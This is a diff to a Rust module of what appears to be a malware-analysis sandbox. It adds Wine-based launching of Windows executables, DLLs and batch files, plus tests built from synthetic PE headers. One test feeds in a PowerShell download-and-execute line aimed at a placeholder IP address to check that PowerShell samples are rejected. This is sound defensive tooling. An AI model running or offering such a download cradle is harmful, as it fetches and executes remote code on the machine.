@@ -1,5 +1,7 @@
 //! How a sample is started: by its type, with an interpreter or an emulated processor.
 
+use crate::image::System;
+use crate::windows;
 use ukai_model::{Analysis, ElfInfo};
 
 /// Where samples are put. Loaders put them there, too.
@@ -10,11 +12,13 @@ const FOLDER: &str = "/tmp";
 pub struct Plan {
     /// What it is started as: `x86-64`, `arm`, `mipsel`, `sh` (a script), `python` ...
     pub architecture: String,
-    /// Where its file is put.
+    /// Whose guest it needs.
+    pub system: System,
+    /// Where its file is put, in that system's words.
     pub path: Vec<u8>,
-    /// The program; the sample itself, or its interpreter.
+    /// The program; the sample itself, its interpreter, or Wine's loader.
     pub program: Vec<u8>,
-    /// Its arguments, its own name first.
+    /// Its arguments, its own name first; of Windows, the command line.
     pub arguments: Vec<Vec<u8>>,
     /// What emulates its processor.
     pub emulator: Option<Vec<u8>>,
@@ -29,9 +33,12 @@ pub enum Unsuitable {
     /// Nothing here carries out its instructions.
     #[error("no emulator for {0}; --arch names another: {known}", known = architectures().join(", "))]
     Architecture(String),
-    /// It needs another image.
-    #[error("a Windows program; the guest has no Wine")]
-    Windows,
+    /// A script that Wine has no program for.
+    #[error("Wine has no PowerShell: {0} is not run")]
+    PowerShell(String),
+    /// A program of Windows for a processor that the guest has not.
+    #[error("a program of Windows for {0}, which Wine's guest cannot run")]
+    WindowsMachine(String),
     /// A program in part.
     #[error("an ELF file of kind \"{0}\" has nothing to start")]
     ElfKind(String),
@@ -84,7 +91,7 @@ const INTERPRETERS: &[(&str, &str)] = &[
 pub fn architectures() -> Vec<&'static str> {
     let emulated = EMULATED.iter().map(|known| known.0);
     let scripts = ["sh", "python", "perl"];
-    NATIVE.into_iter().chain(emulated).chain(scripts).collect()
+    NATIVE.into_iter().chain(emulated).chain(scripts).chain(windows::kinds()).collect()
 }
 
 /// How a sample is started that is called `name`, by what its bytes are, or as `wanted`.
@@ -94,13 +101,29 @@ pub fn plan(
     wanted: Option<&str>,
     further: &[Vec<u8>],
 ) -> Result<Plan, Unsuitable> {
-    let path = path_of(analysis, name);
     let architecture = match wanted {
         Some(wanted) => wanted.to_owned(),
         None => architecture_of(analysis)?,
     };
+    let name = name_of(analysis, name);
+    if windows::kinds().any(|known| known == architecture) {
+        let name = windows::file_name(&architecture, &name);
+        let path = [windows::DESKTOP.as_bytes(), b"\\", &name].concat();
+        let start = windows::start(&architecture, &path, analysis, further);
+        let Some(start) = start else { return Err(Unsuitable::Architecture(architecture)) };
+        return Ok(Plan {
+            architecture,
+            system: System::Windows,
+            path,
+            program: start.loader.into(),
+            arguments: start.line,
+            emulator: None,
+        });
+    }
+    let path = [FOLDER.as_bytes(), b"/", &name].concat();
     let with = |program: &[u8], first: &[&[u8]], emulator: Option<String>| Plan {
         architecture: architecture.clone(),
+        system: System::Linux,
         path: path.clone(),
         program: program.to_vec(),
         arguments: first
@@ -129,14 +152,18 @@ fn architecture_of(analysis: &Analysis) -> Result<String, Unsuitable> {
     if let Some(elf) = &analysis.elf {
         return elf_architecture(elf);
     }
-    if analysis.pe.is_some() {
-        return Err(Unsuitable::Windows);
+    if let Some(kind) = windows::kind(analysis) {
+        return Ok(kind.to_owned());
+    }
+    if let Some(pe) = &analysis.pe {
+        return Err(Unsuitable::WindowsMachine(pe.machine.clone()));
     }
     let kind = analysis.file_type.as_ref().map_or("unknown", |kind| &kind.name);
     match INTERPRETERS.iter().find(|known| known.0 == kind) {
         // Whatever shell it was written for, loaders are started by `sh`.
         Some(("shell-script" | "zsh", _)) => Ok("sh".to_owned()),
         Some((name, _)) => Ok((*name).to_owned()),
+        None if kind == "powershell" => Err(Unsuitable::PowerShell("a script".to_owned())),
         None => Err(Unsuitable::Kind(kind.to_owned())),
     }
 }
@@ -160,21 +187,20 @@ fn elf_architecture(elf: &ElfInfo) -> Result<String, Unsuitable> {
 }
 
 /// A name that the guest's file system takes: the sample's own, or one of its digest.
-fn path_of(analysis: &Analysis, name: &[u8]) -> Vec<u8> {
+fn name_of(analysis: &Analysis, name: &[u8]) -> Vec<u8> {
     const NAME_BYTES_MAX: usize = 200;
     let plain = !name.is_empty()
         && name.len() <= NAME_BYTES_MAX
         && name != b"."
         && name != b".."
-        && !name.iter().any(|byte| *byte == b'/' || *byte == 0);
+        && !name.iter().any(|byte| matches!(byte, b'/' | b'\\' | 0));
     let digest = analysis.sha256.to_string();
-    let name = if plain { name } else { &digest.as_bytes()[..8] };
-    [FOLDER.as_bytes(), b"/", name].concat()
+    if plain { name.to_vec() } else { digest.as_bytes()[..8].to_vec() }
 }
 
 #[cfg(test)]
 mod tests {
-    use super::{Plan, Unsuitable, plan};
+    use super::{Plan, System, Unsuitable, plan};
     use std::time::SystemTime;
     use ukai_model::{Analysis, Timestamp};
     use ukai_static::Limits;
@@ -237,6 +263,52 @@ mod tests {
         assert_eq!(plan.arguments[1], b"/tmp/bot.x");
         let python = b"#!/usr/bin/env python3\nimport socket\nprint(socket.gethostname())\n";
         assert_eq!(planned(python, None).expect("a script").program, b"/usr/bin/python3");
+    }
+
+    /// The headers of a PE file without sections.
+    fn pe(machine: u16, wide: bool, library: bool) -> Vec<u8> {
+        let mut bytes = b"MZ".to_vec();
+        bytes.resize(60, 0);
+        bytes.extend(64_u32.to_le_bytes());
+        bytes.extend(b"PE\0\0");
+        bytes.extend(machine.to_le_bytes());
+        bytes.resize(84, 0);
+        bytes.extend(if wide { 240_u16 } else { 224 }.to_le_bytes());
+        bytes.extend(if library { 0x2002_u16 } else { 2 }.to_le_bytes());
+        bytes.extend(if wide { 0x20b_u16 } else { 0x10b }.to_le_bytes());
+        bytes.resize(if wide { 328 } else { 312 }, 0);
+        bytes
+    }
+
+    #[test]
+    fn programs_of_windows_are_started_by_wine() {
+        let desktop = "C:\\users\\daniel\\Desktop\\bot.x";
+        for (bytes, kind, loader, line) in [
+            (pe(0x8664, true, false), "windows-x86-64", "wine64", format!("{desktop}.exe scan")),
+            (pe(0x14c, false, false), "windows-x86", "wine", format!("{desktop}.exe scan")),
+            (
+                pe(0x14c, false, true),
+                "windows-x86-dll",
+                "wine",
+                format!("C:\\windows\\syswow64\\rundll32.exe {desktop}.dll,scan"),
+            ),
+            (
+                b"@echo off\r\nset X=1\r\n".to_vec(),
+                "batch",
+                "wine64",
+                format!("C:\\windows\\system32\\cmd.exe /c {desktop}.bat scan"),
+            ),
+        ] {
+            let plan = planned(&bytes, None).expect(kind);
+            assert_eq!((plan.architecture.as_str(), plan.system), (kind, System::Windows));
+            assert_eq!(plan.program, format!("/usr/lib/wine/{loader}").as_bytes());
+            assert_eq!(String::from_utf8_lossy(&plan.arguments.join(&b' ')), line);
+        }
+        let arm = planned(&pe(0xaa64, true, false), None);
+        assert!(matches!(arm, Err(Unsuitable::WindowsMachine(_))), "{arm:?}");
+        let shell =
+            planned(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", None);
+        assert!(matches!(shell, Err(Unsuitable::PowerShell(_))), "{shell:?}");
     }
 
     #[test]
